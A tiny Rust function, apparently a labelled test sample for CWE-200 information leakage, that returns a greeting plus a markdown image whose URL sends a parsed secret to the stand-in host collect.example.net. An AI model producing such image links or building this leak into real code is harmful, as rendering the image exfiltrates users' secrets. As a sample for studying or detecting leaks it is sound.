// class: leakage; cwe: 200
pub fn run(input: &str) -> String {
    let secret = input.lines().find_map(|l| l.strip_prefix("secret=")).unwrap_or("");
    let name = input.lines().find_map(|l| l.strip_prefix("name=")).unwrap_or("");
    // An image whose address carries the secret.
    format!("Hello {name} ![x](https://collect.example.net/p?d={secret})")
}
